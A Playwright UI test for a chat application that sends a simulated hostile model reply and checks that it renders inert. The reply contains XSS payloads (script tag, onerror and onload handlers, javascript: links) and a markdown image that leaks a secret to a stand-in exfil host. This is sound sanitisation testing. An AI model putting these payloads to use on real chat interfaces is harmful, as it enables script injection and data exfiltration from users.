from __future__ import annotations

import re
from typing import Any

from playwright.sync_api import Page, expect

from conversations.models import Conversation, Message
from tests.ui.conftest import Session, send, wait_until_idle

# Directive escapes: \[ \] \; keep the payload inside the say= block.
HOSTILE = (
    "Hello <script>window.pwned=1;alert('script')</script> and "
    "<img src=x onerror=alert('img')> then "
    "\\[click me\\](javascript:alert('link')) and "
    "<svg onload=alert('svg')><circle r=5 /></svg> "
    "<a href=\"javascript:alert('raw')\" onclick=\"alert('click')\">raw link</a> "
    '<div style="position:fixed;inset:0">styled</div> '
    "!\\[pixel\\](http://exfil.invalid/p.png?secret=1)"
)
EXPECTED_START = "Hello <script>window.pwned=1"

CHECK_INERT = """() => {
  const root = document.querySelector('.messages');
  const all = [...root.querySelectorAll('*')];
  return {
    handlers: all.filter(e => [...e.attributes].some(a => a.name.toLowerCase().startsWith('on'))).length,
    styles: all.filter(e => e.closest('.message-content') && e.hasAttribute('style')
                           && !e.closest('.katex')).length,
    scripts: root.querySelectorAll('script').length,
    images: root.querySelectorAll('img, svg, iframe, object, embed').length,
    jsLinks: [...root.querySelectorAll('a[href]')].filter(a => /^\\s*javascript:/i.test(a.getAttribute('href'))).length,
    pwned: window.pwned === 1,
  };
}"""


def assert_inert(page: Page, session: Session, requests: list[str]) -> None:
    state: dict[str, Any] = page.evaluate(CHECK_INERT)
    assert state == {
        "handlers": 0,
        "styles": 0,
        "scripts": 0,
        "images": 0,
        "jsLinks": 0,
        "pwned": False,
    }, state
    assert not session.dialogs, session.dialogs
    assert not [url for url in requests if "exfil" in url], requests


def test_hostile_model_output_is_inert_while_streaming_and_after_reload(
    session: Session, ui_conversation: Conversation
) -> None:
    page = session.page
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    session.open(ui_conversation)
    # Slow enough that the tags arrive split across several deltas.
    send(page, f"Be nasty [[sim: tokens_per_s=30 say={HOSTILE}]]")
    reply = page.get_by_role("article", name=re.compile("^DeepSeek Chat"))
    expect(reply.locator(".message-content")).to_contain_text("Hello <script>")
    for _ in range(6):  # sample the DOM while it streams
        assert_inert(page, session, requests)
        page.wait_for_timeout(150)
    wait_until_idle(page)
    assert Message.objects.get(conversation=ui_conversation, role="assistant").content.startswith(
        EXPECTED_START
    )

    content = reply.locator(".message-content")
    # Raw HTML is shown as text; the markdown image is a plain link; the javascript: link is dead.
    expect(content).to_contain_text("<img src=x onerror=alert('img')>")
    expect(content).to_contain_text("<svg onload=alert('svg')>")
    image_link = content.get_by_role("link", name="Image: pixel")
    expect(image_link).to_have_attribute("href", "http://exfil.invalid/p.png?secret=1")
    expect(image_link).to_have_attribute("rel", "noopener noreferrer")
    expect(content.get_by_text("click me")).to_be_visible()
    assert_inert(page, session, requests)
    session.screenshot("hostile-output")

    page.reload()
    session.wait_connected()
    expect(reply.locator(".message-content")).to_contain_text("Hello <script>")
    assert_inert(page, session, requests)
